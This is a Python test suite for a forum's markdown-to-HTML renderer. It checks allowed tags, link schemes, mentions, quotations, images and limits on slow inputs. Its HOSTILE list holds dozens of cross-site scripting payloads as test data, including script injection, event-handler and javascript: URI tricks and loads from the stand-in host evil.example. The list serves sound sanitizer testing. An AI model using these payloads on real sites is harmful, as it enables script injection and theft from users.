import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from parvis.pages.attached import Download, Picture
from parvis.pages.markdown import (
    LONGEST,
    MOST_CALLED,
    NOTHING_AROUND,
    Around,
    Reading,
    first_words,
    quotation,
    shortened,
)

PEOPLE = {"ines": "/people/ines/", "bo": "/people/bo/"}
AROUND = Around(people=PEOPLE, topic="/c/velo/talk/5/")

ALLOWED = {
    "p": set(),
    "br": set(),
    "hr": set(),
    "blockquote": set(),
    "pre": {"tabindex"},
    "code": set(),
    "em": set(),
    "strong": set(),
    "s": set(),
    "a": {"href", "rel"},
    "img": {"src", "alt", "width", "height", "loading"},
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "h3": set(),
    "h4": set(),
    "h5": set(),
    "h6": set(),
    "table": {"tabindex"},
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": set(),
    "td": set(),
}
VOID = {"br", "hr", "img"}
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>covered</p>",
    "<form action=//evil.example><input name=code></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<a href="javascript:alert(1)" onclick=alert(1)>x</a>',
    "</article></main></body><h1>Another page</h1>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<textarea autofocus onfocus=alert(1)>",
    "<b>unclosed <i>tags <u>everywhere",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:/etc/passwd)",
    "[x](blob:https://evil.example/1)",
    '[x](https://a.example "title" onclick=alert(1))',
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x" onerror="alert(1)](/files/abcdefgh/a.webp)',
    "![x](/files/../../account/logout/)",
    "![x](//evil.example/files/abcdefgh/a.webp)",
    "[x]: javascript:alert(1)\n\n[x]",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>\n===\n<h1>x",
    '@ines"onmouseover=alert(1)',
    '[@ines](#p1"onclick=alert(1))',
    "[a](<b onclick=alert(1)>)",
    'http://a.example/"onmouseover=alert(1)',
    "\u202e<script>\u2066alert(1)\x00</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**" * 500 + "<script>" + "_" * 500,
]


class Strict(HTMLParser):
    """Read HTML as written, and complain of all that a post may not hold."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in ALLOWED, f"a foreign tag: {tag}"
        names = [name for name, _ in attrs]
        assert set(names) <= ALLOWED[tag], f"a foreign attribute of {tag}: {names}"
        assert len(names) == len(set(names))
        values = dict(attrs)
        if tag == "a" and "href" in values:
            assert values["rel"] == "nofollow ugc noopener"
            address = (values["href"] or "").strip().lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
            assert scheme is None or scheme[0] in {"http:", "https:", "mailto:"}, address
        if tag == "img" and "src" in values:
            assert re.fullmatch(r"/files/[\w-]{8,32}/[^/\s]+", values["src"] or "")
            assert "alt" in values
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a declaration: {data}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"a processing instruction: {data}")


def read_strictly(html: str) -> str:
    reader = Strict()
    reader.feed(html)
    reader.close()
    assert reader.open == [], "a tag is left open"
    return reader.text


@pytest.mark.parametrize("source", HOSTILE)
def test_a_hostile_text_becomes_harmless_html(source: str) -> None:
    read_strictly(Reading(source).html(AROUND))


@pytest.mark.parametrize("source", [each for each in HOSTILE if each.startswith("<") and "CDATA" not in each])
def test_what_looks_like_html_is_shown_as_it_was_typed(source: str) -> None:
    assert "<" in read_strictly(Reading(source).html()) or "javascript" in source


fragments = st.one_of(
    st.sampled_from(HOSTILE),
    st.sampled_from(
        ["> ", "- ", "1. ", "\n", "\n\n", "    ", "`", "```\n", "*", "_", "~~", "[", "](", ")", "!["]
    ),
    st.sampled_from(
        ["|", "|-|\n", "# ", "@ines", "#p12", "https://a.example", "/files/abcdefgh/a.webp", "&amp;", "\\"]
    ),
    st.text(max_size=12),
)


@given(st.lists(fragments, max_size=25).map("".join))
@example("<!--")
@example("[@ines](#p12): @ines")
def test_no_text_whatever_becomes_harmful_html(source: str) -> None:
    read_strictly(Reading(source).html(AROUND))


@given(st.lists(fragments, max_size=25).map("".join))
def test_plain_words_are_one_line_and_names_are_called_once(source: str) -> None:
    reading = Reading(source)

    assert "\n" not in reading.plain()
    assert len(reading.called()) == len(set(reading.called())) <= MOST_CALLED


def test_headings_begin_below_those_of_the_page() -> None:
    html = Reading("# One\n\n## Two\n\n###### Six").html()

    assert html == "<h3>One</h3>\n<h4>Two</h4>\n<h6>Six</h6>"


def test_a_text_that_begins_with_a_small_heading_skips_no_level() -> None:
    assert Reading("### Third\n\n#### Fourth").html() == "<h3>Third</h3>\n<h4>Fourth</h4>"


def test_tables_struck_words_and_bare_addresses_are_understood() -> None:
    html = Reading("~~no~~ www.example.org\n\n|a|\n|:-:|\n|b|").html()

    assert "<s>no</s>" in html
    assert '<a href="http://www.example.org" rel="nofollow ugc noopener">www.example.org</a>' in html
    assert "<td>b</td>" in html


def test_a_name_of_somebody_becomes_a_link_and_any_other_stays_a_word() -> None:
    html = Reading("@Ines and @nobody, write to bo@example.org or @bo@example.org").html(AROUND)

    assert '<a href="/people/ines/" rel="nofollow ugc noopener">@Ines</a> and @nobody' in html
    assert html.count("/people/") == 1


def test_names_in_code_in_links_and_in_quotes_call_nobody() -> None:
    reading = Reading("`@bo` [@bo](https://a.example)\n> @bo\n\n```\n@bo\n```\n@ines")

    assert reading.called() == ("ines",)
    assert reading.html(AROUND).count('href="/people/bo/"') == 1  # the quote shows the link it quotes


def test_a_post_is_no_megaphone() -> None:
    assert len(Reading(" ".join(f"@p{n}" for n in range(50))).called()) == MOST_CALLED


def test_a_quotation_leads_back_to_the_post_it_quotes() -> None:
    html = Reading(quotation("First *line*\n\nsecond", "In_es", 12) + "My answer").html(AROUND)

    assert html.startswith(
        '<blockquote>\n<p><a href="/c/velo/talk/5/p/12/" rel="nofollow ugc noopener">In_es</a>:<br>\nFirst'
    )
    assert html.endswith("<p>My answer</p>")
    assert Reading(quotation("theirs", "Bo", 1) + "mine").plain() == "mine"


def test_an_image_of_another_place_is_named_by_a_link() -> None:
    html = Reading("![a bridge](https://a.example/b.png)").html()

    assert html == ('<p><a href="https://a.example/b.png" rel="nofollow ugc noopener">a bridge</a></p>')


def test_pictures_have_their_size_and_those_not_placed_in_the_text_follow_it() -> None:
    placed = Picture("/files/abcdefgh1/a.webp", 40, 30, "A bridge")
    after = Picture("/files/abcdefgh2/b.webp", 20, 10, 'A "quay"')
    around = Around(
        people={}, pictures=(placed, after), downloads=(Download("/files/abcdefgh3/c.pdf", "c.pdf"),)
    )

    html = Reading("![here](/files/abcdefgh1/a.webp)").html(around)

    assert html.count("<img") == 2
    assert '<img src="/files/abcdefgh1/a.webp" alt="here" loading="lazy" width="40" height="30">' in html
    assert 'alt="A &quot;quay&quot;" width="20" height="10"' in html
    assert html.endswith('<p><a href="/files/abcdefgh3/c.pdf" rel="nofollow ugc noopener">c.pdf</a></p>')


@pytest.mark.parametrize(
    "source",
    [
        "> " * 5000 + "a",
        "- " * 5000 + "a",
        "[" * LONGEST,
        "*a_" * 9000,
        "a|" * 900 + "\n" + "-|" * 900 + "\nx|" * 900,
    ],
)
def test_texts_made_to_be_slow_are_bounded(source: str) -> None:
    html = Reading(source).html(NOTHING_AROUND)

    assert html.count("<blockquote>") <= 20
    assert len(html) < 20 * LONGEST


def test_a_table_of_too_many_cells_is_shown_as_it_was_typed() -> None:
    rows = "|a|b|\n|-|-|\n" + "|1|2|\n" * 40

    assert "<table" in Reading(rows).html()
    assert "<table" not in Reading(rows + "x\n" * 9000).html()


def test_a_beginning_is_cut_between_two_words() -> None:
    assert shortened("one two three", 9) == "one two…"
    assert shortened("one two three", 13) == "one two three"


@pytest.mark.parametrize(
    "source",
    [
        "Where is the **bench** & the *lamp*, @ada?",
        "One line\nanother\n\n- a list\n- of two",
        "> quoted\n>> quoted twice\n>\n> still\n\nMine, not theirs.",
        "Before\n\n```\ncode > here\n```\n\nafter `code` <b>not bold</b>",
        "# A heading\n\n[a link](https://example.org/?a=1&b=2) and https://example.org",
        "| a | b |\n|---|---|\n| c | d |",
        "> only quoted",
        "",
    ],
)
def test_the_first_words_of_the_html_are_those_of_the_text(source: str) -> None:
    reading = Reading(source)
    assert first_words(reading.html()) == reading.plain()


def test_the_first_words_hold_neither_markup_nor_quotes_wherever_the_html_is_cut() -> None:
    html = Reading('> told\n>> told\n>\n> told\n\nmine **open** & [x](https://e.org/?a=">")').html()
    whole = "mine open & x"
    for cut in range(len(html) + 1):
        said = first_words(html[:cut])
        assert whole.startswith(said.removesuffix("amp").removesuffix("am").removesuffix("a")), html[:cut]
    assert first_words(html).startswith("mine open & ")
